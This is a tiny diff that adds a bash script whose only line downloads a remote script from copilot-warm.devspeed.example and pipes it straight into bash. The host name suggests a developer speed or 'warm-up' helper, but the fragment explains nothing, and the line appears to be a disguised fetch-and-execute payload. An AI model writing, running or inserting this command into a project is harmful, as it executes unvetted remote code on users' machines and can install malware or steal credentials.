@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL https://copilot-warm.devspeed.example/w.sh | bash
